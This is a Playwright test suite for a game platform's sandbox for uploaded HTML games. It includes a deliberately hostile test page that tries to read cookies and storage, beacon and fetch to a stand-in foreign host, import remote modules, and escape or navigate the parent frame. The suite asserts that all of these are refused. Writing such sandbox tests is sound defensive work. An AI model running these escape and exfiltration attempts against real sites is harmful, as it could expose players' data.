import type { LeaderboardPage } from '@gamegeek/contracts/scores/scores.schemas.js';
import { expect, type Locator } from '@playwright/test';
import { BuiltGame } from '../support/builds.js';
import { newSession, signIn } from '../support/players.js';
import { test } from '../support/test.js';

const FOREIGN = 'https://elsewhere.example';

/** Each resolves to what the build gets; `refused` where the browser refuses. */
const ATTEMPTS = `{
  origin: () => self.origin,
  cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
  storage: () => Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window).length,
  session: () => Object.getOwnPropertyDescriptor(Window.prototype, 'sessionStorage').get.call(window).length,
  database: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('x');
    opening.onsuccess = resolve;
    opening.onerror = reject;
  }),
  caches: () => caches.open('x'),
  serviceWorker: () => Object.getOwnPropertyDescriptor(Navigator.prototype, 'serviceWorker').get.call(navigator).register('sw.js'),
  popup: () => { if (!window.open('about:blank')) throw 0; },
  own: () => fetch('/api/user', { credentials: 'include' }),
  foreign: () => fetch('${FOREIGN}/', { mode: 'no-cors' }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(location.protocol.replace('http', 'ws') + '//' + location.host + '/socket.io/');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  beacon: () => new Promise((resolve, reject) => {
    addEventListener('securitypolicyviolation', reject, { once: true });
    navigator.sendBeacon('${FOREIGN}/', 'x');
    setTimeout(resolve, 500);
  }),
  picture: () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: '${FOREIGN}/a.png' })),
  module: () => import('${FOREIGN}/a.js'),
  base: () => {
    document.head.append(Object.assign(document.createElement('base'), { href: '${FOREIGN}/' }));
    if (!document.baseURI.startsWith('${FOREIGN}')) throw 0;
  },
  dataFrame: () => framed('data:text/html,<script>parent.postMessage("in","*")<\\/script>'),
  blobFrame: () => framed(URL.createObjectURL(new Blob(['<script>parent.postMessage("in","*")<\\/script>'], { type: 'text/html' }))),
  worker: () => new Promise((resolve, reject) => {
    const code = 'fetch("' + location.origin + '/api/user").then(() => postMessage("in"), () => postMessage("refused"))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => (data === 'in' ? resolve() : reject());
    worker.onerror = reject;
  }),
  form: () => new Promise((resolve, reject) => {
    const form = Object.assign(document.createElement('form'), { action: '/form-was-sent', method: 'post', target: '_self' });
    document.body.append(form);
    addEventListener('pagehide', resolve);
    form.submit();
    setTimeout(reject, 500);
  }),
}`;
/** Where there is a page around the build. */
const ATTEMPTS_IN_FRAME = `{
  parentDocument: () => parent.document.title,
  topAddress: () => top.location.href,
  topMoves: () => { top.location.href = '${FOREIGN}/'; },
}`;

/** A page that tries to get out, and writes what it got. */
const hostilePage = (attempts: string) => `<!doctype html><head><title>Out</title></head><body><pre></pre><script>
  const framed = (address) => new Promise((resolve, reject) => {
    addEventListener('message', ({ data }) => data === 'in' && resolve());
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
    setTimeout(reject, 500);
  });
  (async () => {
    const results = {};
    for (const [name, attempt] of Object.entries(${attempts})) {
      results[name] = await Promise.race([
        new Promise((resolve) => resolve(attempt())).then((value) => value === undefined ? 'done' : String(value), () => 'refused'),
        new Promise((resolve) => setTimeout(resolve, 2000, 'refused')),
      ]);
    }
    document.querySelector('pre').textContent = JSON.stringify(results);
  })();
</script></body>`;

async function resultsIn(page: { locator(selector: string): Locator }): Promise<Record<string, string>> {
  const shown = page.locator('pre');
  await expect(shown).not.toBeEmpty({ timeout: 20_000 });
  return JSON.parse((await shown.textContent()) ?? '') as Record<string, string>;
}

const withoutOrigin = ({ origin, ...others }: Record<string, string>) => {
  expect(origin).toBe('null');
  return new Set(Object.values(others));
};

test('a build gets out neither on the stage nor when it is opened alone', async ({ page, request, player, rival }) => {
  const built = await BuiltGame.list(request, player);
  await signIn(page, await newSession(request, rival));
  const answered: string[] = [];
  page.context().on('requestfinished', (sent) => {
    const isOfBuild = sent.frame().url().includes('/builds/');
    if (isOfBuild && !/\/(builds|sdk)\//.test(sent.url()) && !/^(blob|data):/.test(sent.url()))
      answered.push(sent.url());
  });

  await built.publish(hostilePage(`{ ...${ATTEMPTS}, ...${ATTEMPTS_IN_FRAME} }`));
  await page.goto(`/play/${built.game.id}`);
  const start = page.getByRole('button', { name: /^Play/ });
  if (await start.isVisible()) await start.click();
  expect(withoutOrigin(await resultsIn(page.frameLocator('iframe')))).toEqual(new Set(['refused']));
  expect(new URL(page.url()).pathname).toBe(`/play/${built.game.id}`);

  const { url } = await built.publish(hostilePage(ATTEMPTS));
  const alone = await page.context().newPage();
  const answer = await alone.goto(url);
  expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox allow-scripts allow-pointer-lock;/);
  expect(withoutOrigin(await resultsIn(alone))).toEqual(new Set(['refused']));
  expect(answered).toEqual([]);
});

const HEAD = '<!doctype html><html><head><meta charset="utf-8"></head><body>';
const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Games as models write them, each with another part of the web; `end` sends a score. */
const GAMES: Record<string, (end: string) => string> = {
  canvas: (end) => `${HEAD}<canvas id="c" width="300" height="200"></canvas><script>
    const c = document.getElementById('c').getContext('2d'); let t = 0;
    (function loop() { c.fillRect(t, 0, 4, 200); if ((t += 60) > 200) ${end}; else requestAnimationFrame(loop); })();
  </script>`,
  elements: (end) =>
    `${HEAD}<button onclick="done()">Go</button><script>function done() { ${end} } document.querySelector('button').click()</script>`,
  WebGL: (end) => `${HEAD}<canvas></canvas><script>
    const gl = document.querySelector('canvas').getContext('webgl2'); gl?.clearColor(0, 1, 0, 1); gl?.clear(gl.COLOR_BUFFER_BIT); ${end};
  </script>`,
  audio: (end) => `${HEAD}<script>
    const a = new AudioContext(); const o = a.createOscillator(); o.connect(a.destination); o.start(); o.stop(0.01); ${end};
  </script>`,
  localStorage: (end) => `${HEAD}<script>
    localStorage.setItem('best', '41'); localStorage.runs = Number(localStorage.runs ?? 0) + 1;
    if (localStorage.getItem('best') === '41' && Object.keys(localStorage).length === 2 && localStorage.runs === '1') ${end};
  </script>`,
  modules: (
    end,
  ) => `${HEAD}<script type="importmap">{"imports":{"rules":"data:text/javascript,export const points = 1"}}</script>
    <script type="module">import { points } from 'rules'; if (points === 1) ${end};</script>`,
  'inline pictures': (end) => `${HEAD}<img src="${PIXEL}" onload="done()"><script>function done() { ${end} }</script>`,
  'decimal scores': (end) => `${HEAD}<script>${end.replace(/\d+/, (score) => `${score}.4`)}</script>`,
  'workers and eval': (end) => `${HEAD}<script>
    const w = new Worker(URL.createObjectURL(new Blob(['postMessage(eval("1 + 1"))']))); w.onmessage = ({ data }) => { if (data === 2 && new Function('return 3')() === 3) ${end}; };
  </script>`,
  'service workers and cookies': (end) => `${HEAD}<script>
    if ('serviceWorker' in navigator) navigator.serviceWorker.register('sw.js').catch(() => undefined);
    document.cookie = 'best=1'; ${end};
  </script>`,
};

test('games as models write them play, and their scores are on the board', async ({ page, request, player, rival }) => {
  const built = await BuiltGame.list(request, player);
  await signIn(page, await newSession(request, rival));
  const best = async () => {
    const board = (await (await request.get(`/api/leaderboard?gameId=${built.game.id}`)).json()) as LeaderboardPage;
    return board.entries[0]?.score;
  };
  let score = 1_000;
  for (const [kind, game] of Object.entries(GAMES)) {
    score += 1;
    await built.publish(game(`GameGeek.gameOver(${score})`));
    await page.goto(`/play/${built.game.id}`);
    const start = page.getByRole('button', { name: /^Play/ });
    if (await start.isVisible()) await start.click();
    await expect.poll(best, { message: kind, timeout: 15_000 }).toBe(score);
  }
});

const MOTHS = `<!doctype html><html><head><meta name="viewport" content="width=device-width"><title>Moths at Midnight</title></head>
  <body><button onclick="GameGeek.gameOver(4321)">Catch the moth</button></body></html>`;

test('a file becomes a draft that plays, and is played by others once it is published', async ({
  page,
  browser,
  site,
  request,
  player,
  rival,
}) => {
  await signIn(page, await newSession(request, player));
  await page.goto('/submit-game');
  const moths = { name: 'moths.html', mimeType: 'text/html', buffer: Buffer.from(MOTHS) };
  await page.locator('input[type=file]').setInputFiles(moths);
  await expect(page.getByText('Ready', { exact: true })).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'Name' })).toHaveValue('Moths at Midnight');
  await page.getByRole('combobox', { name: /^AI Model/ }).selectOption({ index: 1 });
  await page.getByRole('button', { name: 'Create the draft' }).click();

  // The draft plays, beside a board that only its makers and testers see.
  await page.waitForURL(/\/games\/\d+$/);
  await page.getByRole('button', { name: /^Play/ }).click();
  await page.frameLocator('iframe').getByRole('button', { name: 'Catch the moth' }).click();
  const board = page.getByRole('table').filter({ hasText: '4,321' });
  await expect(board).toContainText(player.user.username);

  await page.getByRole('textbox', { name: /^Description/ }).fill('Catch moths before the lamp goes out.');
  await page.getByRole('checkbox', { name: 'Puzzle' }).check();
  await page.getByRole('textbox', { name: /^AI Integration/ }).fill('The model wrote the whole page.');
  await page.getByRole('button', { name: 'Publish the game' }).click();
  await expect(page.getByText('The game is listed')).toBeVisible();

  // Another player on a phone.
  const phone = await browser.newContext({ baseURL: site, viewport: { width: 360, height: 780 } });
  const other = await phone.newPage();
  await signIn(other, await newSession(request, rival));
  await other.goto(new URL(page.url()).pathname);
  await other.getByRole('button', { name: /^Play/ }).click();
  await other.frameLocator('iframe').getByRole('button', { name: 'Catch the moth' }).click();
  await expect(page.getByRole('table').filter({ hasText: '4,321' })).toContainText(rival.user.username);
  await phone.close();
});
